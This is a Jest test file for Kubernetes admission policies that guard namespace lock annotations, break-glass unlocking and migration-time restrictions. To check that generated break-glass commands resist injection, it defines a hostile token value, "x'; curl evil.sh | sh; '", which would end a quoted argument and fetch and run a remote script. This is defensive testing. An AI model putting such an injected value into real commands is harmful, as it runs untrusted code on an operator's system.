import { afterAll, beforeAll, describe, expect, test } from '@jest/globals';
import {
  ANNOTATION,
  LABEL,
  OTHER_LOCK_MESSAGE,
  POLICY,
  PROOF_MESSAGE,
  SERVICE_ACCOUNT,
  SYSTEM_NAMESPACE,
  UNREADABLE_TOKEN,
  POD_IDENTITY_LABELS,
} from '../../../functions/domain/names.ts';
import { renderAdmissionMode, ADMISSION_MODES } from '../../cluster/admission-modes.ts';
import {
  annotate,
  annotateByFinalize,
  annotateByStatus,
  breakGlass,
  changeClaim,
  changePod,
  changeQuota,
  createClaim,
  createNamespace,
  createProof,
  createQuota,
  deletion,
  emptyNamespace,
  giveDeadline,
  label,
  OF_ITS_POD,
  ownPod,
  patchNamespace,
  relabelPod,
  replaceNamespace,
  replaceQuota,
} from '../../support/policies/admission-requests.ts';
import type { ApiRequest } from '../../support/environment/api-request.ts';
import {
  ATTACHING,
  BROKEN,
  changeOfQuota,
  type Extra,
  FREE,
  held,
  LOCKED,
  LONGER,
  newQuota,
  ONE,
  OTHER,
  OF_KUBEVIRT,
  ofAttachment,
  ofTarget,
  podOf,
  startPolicyTenants,
  TOKEN,
  vmiOf,
} from '../../support/policies/policy-scene.ts';
import { breakGlassCommand } from '../../../webhook/admission/messages.ts';
import type { PolicyWorld } from '../../support/policies/policy-world.ts';

/** The policies alone on the real API server: none of our processes runs, no webhook is installed. Every request is a dry run. */

let world: PolicyWorld;
/** Already has the annotation break-glass. */
const GLASS_BROKEN = 'tenant-glass-broken';
/** Its token would end the quoted argument of a command. */
const HOSTILE = 'tenant-token-hostile';
const HOSTILE_TOKEN = "x'; curl evil.sh | sh; '";
/** Without a lock, with the records of earlier ones. */
const RECORDED = 'tenant-recorded';
const RESERVED = [
  'kube-tenant',
  'openshift-tenant',
  'knative-tenant',
  'kubevirt',
  'default',
  SYSTEM_NAMESPACE,
];

const RECORDS = [ANNOTATION.token, ANNOTATION.migrations, ANNOTATION.lastAttempt, ANNOTATION.breakGlass];

beforeAll(async () => {
  const annotations = { ...held.annotations, [ANNOTATION.breakGlass]: TOKEN };
  world = await startPolicyTenants([
    [GLASS_BROKEN, { ...held, annotations }, []],
    [HOSTILE, { ...held, annotations: { ...held.annotations, [ANNOTATION.token]: HOSTILE_TOKEN } }, []],
    [RECORDED, { annotations: Object.fromEntries(RECORDS.map((key) => [key, '{}'])) }, []],
    ...RESERVED.map((name): Extra => [name, held, []]),
  ]);
});

afterAll(async () => {
  await world.stop();
});

describe(POLICY.lockKeys, () => {
  const { lockKeys } = POLICY;
  const OF_LOCK = [ANNOTATION.lock, ANNOTATION.token, ANNOTATION.migrations];
  const OURS = [...OF_LOCK, ANNOTATION.lastAttempt];

  test.each<[string, string, ApiRequest]>([
    ...OURS.flatMap((key): [string, string, ApiRequest][] => [
      [`${key} put on`, key, annotate(FREE, key)],
      [`${key} put on by way of /status`, key, annotateByStatus(FREE, key)],
      [`${key} put on by way of /finalize`, key, annotateByFinalize(FREE, key)],
    ]),
    ...OF_LOCK.map((key): [string, string, ApiRequest] => [
      `a namespace made with ${key}`,
      key,
      createNamespace({ annotations: { [key]: 'x' } }),
    ]),
    ['the lock changed', ANNOTATION.lock, annotate(LOCKED, ANNOTATION.lock)],
    ['the lock taken off', ANNOTATION.lock, annotate(LOCKED, ANNOTATION.lock, null)],
    ['the token taken off', ANNOTATION.token, annotate(LOCKED, ANNOTATION.token, null)],
    ['more migrations', ANNOTATION.migrations, annotate(LOCKED, ANNOTATION.migrations)],
    ['break-glass in advance', ANNOTATION.breakGlass, annotate(LOCKED, ANNOTATION.breakGlass, TOKEN)],
    ['the last attempt changed', ANNOTATION.lastAttempt, annotate(RECORDED, ANNOTATION.lastAttempt)],
    ['the label put on', LABEL.locked, label(FREE, 'true')],
    ['the label changed', LABEL.locked, label(LOCKED, 'false')],
    ['the label taken off', LABEL.locked, label(LOCKED, null)],
    ['a namespace made with it', LABEL.locked, createNamespace({ labels: { [LABEL.locked]: 'true' } })],
  ])('%s is refused, and the refusal names the key', async (_what, key, request) => {
    expect(await world.ask('editor', request)).toMatchObject({
      by: lockKeys,
      code: 403,
      text: expect.stringMatching(new RegExp(`^${key} may only be changed by managed-tenant-quota: `)),
    });
  });

  test.each<[string, ApiRequest]>([
    ['another annotation, on a namespace without any', annotate(FREE, 'example.com/note')],
    ['another annotation, on a locked namespace', annotate(LOCKED, 'example.com/note')],
    ['the opt-out', annotate(LOCKED, ANNOTATION.skip, 'true')],
    ['the status of a locked namespace', annotateByStatus(LOCKED, 'example.com/note')],
    ['a namespace without metadata of its own', createNamespace({})],
    [
      'a namespace from a backup, with its last attempt',
      createNamespace({ annotations: { [ANNOTATION.lastAttempt]: '{}' } }),
    ],
  ])('%s passes', async (_what, request) => {
    expect(await world.ask('editor', request)).toEqual({ by: 'none' });
  });

  test('where there is no lock, a user who may update the namespace may remove each record, and all', async () => {
    const removals = [...RECORDS.map((key) => [key]), RECORDS].flatMap((keys) => {
      const metadata = { annotations: Object.fromEntries(keys.map((key) => [key, null])) };
      return ['', '/status'].map((subresource) => patchNamespace(RECORDED, { metadata }, subresource));
    });
    for (const request of [...removals, emptyNamespace(RECORDED)]) {
      expect([request, await world.ask('editor', request)]).toEqual([request, { by: 'none' }]);
    }
    expect(await world.ask('editor', emptyNamespace(LOCKED))).toMatchObject({ by: lockKeys });
  });

  test('the refusal of another write there says that there is no lock, and has no break-glass command', async () => {
    for (const request of [annotate(RECORDED, ANNOTATION.lastAttempt), label(FREE, 'true')]) {
      const verdict = await world.ask('editor', request);
      expect(verdict).toMatchObject({ by: lockKeys, text: expect.stringContaining('there is no lock') });
      expect(JSON.stringify(verdict)).not.toContain('kubectl patch');
    }
  });

  test('our own accounts pass', async () => {
    for (const user of [
      SERVICE_ACCOUNT.lock,
      SERVICE_ACCOUNT.raise,
      SERVICE_ACCOUNT.unlock,
      SERVICE_ACCOUNT.guard,
    ]) {
      expect([user, await world.ask(user, replaceNamespace(FREE))]).toEqual([user, { by: 'none' }]);
    }
  });

  test('the refusal contains the break-glass command with the token of this lock', async () => {
    for (const [namespace, token] of [
      [LOCKED, TOKEN],
      [BROKEN, UNREADABLE_TOKEN],
      [HOSTILE, UNREADABLE_TOKEN],
    ] as const) {
      expect(await world.ask('editor', label(namespace, null))).toMatchObject({
        text: expect.stringContaining(breakGlassCommand({ namespace, token })),
      });
    }
  });

  test('break-glass: a holder of the role removes the lock by that command, for as long as the binding exists', async () => {
    const broken = breakGlass(LOCKED, TOKEN);
    expect(await world.ask('repairer', broken)).toMatchObject({ by: lockKeys });
    await world.breakGlass('repairer');
    await world.eventually('repairer', broken, 'none');
    for (const namespace of [BROKEN, HOSTILE])
      expect(await world.ask('repairer', breakGlass(namespace, UNREADABLE_TOKEN))).toEqual({ by: 'none' });
    expect(await world.ask('repairer', annotate(LOCKED, ANNOTATION.breakGlass, TOKEN))).toEqual({
      by: 'none',
    });
    // The break-glass right alone does not allow the write, because a controller with all rights also replaces namespaces.
    for (const request of [
      label(LOCKED, null),
      annotate(LOCKED, ANNOTATION.lock, null),
      breakGlass(LOCKED, `${TOKEN}0`),
      breakGlass(LOCKED, UNREADABLE_TOKEN),
      breakGlass(BROKEN, TOKEN),
      breakGlass(BROKEN, ''),
      breakGlass(HOSTILE, HOSTILE_TOKEN),
      replaceNamespace(FREE),
    ]) {
      expect(await world.ask('repairer', request)).toMatchObject({ by: lockKeys, code: 403 });
    }
    expect(await world.ask('editor', broken)).toMatchObject({ by: lockKeys });
  });

  test('break-glass counts only when newly set, and every user may remove it', async () => {
    await world.eventually('repairer', annotate(LOCKED, ANNOTATION.breakGlass, TOKEN), 'none');
    expect(await world.ask('repairer', breakGlass(GLASS_BROKEN, TOKEN))).toMatchObject({ by: lockKeys });
    expect(await world.ask('editor', annotate(GLASS_BROKEN, ANNOTATION.breakGlass, null))).toEqual({
      by: 'none',
    });
  });
});

const { locked } = POLICY;

const MUST_WAIT =
  'must wait: it is locked for a live migration for a few seconds, at most a minute; ' +
  'until then this is forbidden: exceeded quota; try again then';
describe.each(ADMISSION_MODES)(`${locked}, installed with %s`, (admissionMode) => {
  beforeAll(async () => {
    await world.installPolicies(await renderAdmissionMode(admissionMode), locked);
  });

  afterAll(async () => {
    await world.removePolicy(locked);
  });

  test.each<[string, ApiRequest]>([
    ['a pod', podOf(LOCKED)],
    ['a pod that says it is the migration’s', podOf(LOCKED, ONE)],
    ['a pod that grows', changePod(LOCKED, '/resize')],
    ['a pod that gets a deadline', giveDeadline(LOCKED)],
    ...POD_IDENTITY_LABELS.map((key): [string, ApiRequest] => [
      `a pod’s other ${key}`,
      relabelPod(LOCKED, key),
    ]),
    ...Object.keys(OF_KUBEVIRT).map((pod): [string, ApiRequest] => [
      `${pod} of another owner`,
      ownPod(LOCKED, pod),
    ]),
    ['a device that is claimed', createClaim(LOCKED)],
    ['a claim that is its pod’s no more', changeClaim(LOCKED, OF_ITS_POD)],
    ['a new quota', createQuota(LOCKED)],
    ['a proof by another user', createProof(LOCKED, TOKEN)],
  ])('while a namespace is locked, %s is refused', async (_what, request) => {
    for (const user of ['editor', 'cluster-admin']) {
      const verdict = await world.ask(user, request);
      expect(verdict).toMatchObject({
        by: locked,
        code: 403,
        text: expect.stringMatching(
          new RegExp(
            `^(CREATE|UPDATE) of (pods|resourcequotas|resourceclaims) in namespace ${LOCKED} ${MUST_WAIT}$`,
          ),
        ),
      });
      expect(JSON.stringify(verdict)).not.toContain(TOKEN);
    }
  });

  test('only our keys on a quota are protected: an edit of its spec and its deletion pass', async () => {
    for (const request of [changeQuota(LOCKED), deletion(LOCKED, 'resourcequotas'), replaceQuota(LOCKED)]) {
      expect(await world.ask('editor', request)).toEqual({ by: 'none' });
    }
    const label = changeOfQuota(LOCKED, { labels: { [LABEL.raised]: 'true' } });
    expect(await world.ask('editor', label)).toMatchObject({ code: 403 });
  });

  test('KubeVirt’s controller may create pods of the lock’s migrations, and no others', async () => {
    expect(await world.ask('kubevirt', podOf(LOCKED, ONE))).toEqual({ by: 'none' });
    expect(await world.ask('kubevirt', podOf(LOCKED, OTHER))).toEqual({ by: 'none' });
    expect(await world.ask('kubevirt', podOf(LOCKED, ofAttachment(ATTACHING)))).toEqual({ by: 'none' });
    expect(await world.ask('kubevirt', createClaim(LOCKED, ofTarget(ONE)))).toMatchObject({ by: locked });
    for (const migration of [
      ...[undefined, '', 'uid-3', LONGER, 'uid', 'uid-of-quota', ATTACHING],
      // A launcher gets all labels of its VMI.
      ...['vmi-of-tenant', vmiOf(OTHER), vmiOf(LONGER), ''].map((vmi) => ofTarget(ONE, vmi)),
      ofAttachment(ONE),
      ofAttachment('uid-3'),
    ]) {
      expect([migration, await world.ask('kubevirt', podOf(LOCKED, migration))]).toMatchObject([
        migration,
        { by: locked },
      ]);
    }
  });

  const OTHER_LOCK = { by: locked, code: 403, text: OTHER_LOCK_MESSAGE };

  test('the guard answers the proof of this lock, or this policy where there is no guard', async () => {
    const answer = await world.ask(SERVICE_ACCOUNT.raise, createProof(LOCKED, TOKEN));
    const words = { by: locked, code: 403, text: `${PROOF_MESSAGE}${TOKEN}` };
    expect(answer).toEqual(admissionMode === 'policy' ? words : { by: 'none' });
  });

  test('a proof of another lock than the cached one fails', async () => {
    for (const token of [`${TOKEN}0`, TOKEN.slice(0, -1), '']) {
      expect(await world.ask(SERVICE_ACCOUNT.raise, createProof(LOCKED, token))).toEqual(OTHER_LOCK);
    }
    expect(await world.ask(SERVICE_ACCOUNT.raise, createQuota(LOCKED))).toEqual(OTHER_LOCK);
    for (const token of ['', 'unreadable', TOKEN]) {
      expect(await world.ask(SERVICE_ACCOUNT.raise, createProof(BROKEN, token))).toEqual(OTHER_LOCK);
    }
    expect(await world.ask(SERVICE_ACCOUNT.raise, createProof(FREE, TOKEN))).toEqual({ by: 'none' });
  });

  test('an unreadable lock admits no pod', async () => {
    expect(await world.ask('kubevirt', podOf(BROKEN, ONE))).toMatchObject({
      by: locked,
      text: expect.stringMatching(
        /cannot be read and is being repaired; .* is forbidden: exceeded quota; try again in a minute$/,
      ),
    });
  });

  test.each(RESERVED)('%s is never locked, even with our label', async (name) => {
    expect(await world.ask('editor', podOf(name))).toEqual({ by: 'none' });
  });

  test('an unlocked namespace is not restricted', async () => {
    for (const request of [podOf(FREE), changeQuota(FREE), newQuota(FREE, {})]) {
      expect(await world.ask('editor', request)).toEqual({ by: 'none' });
    }
  });
});
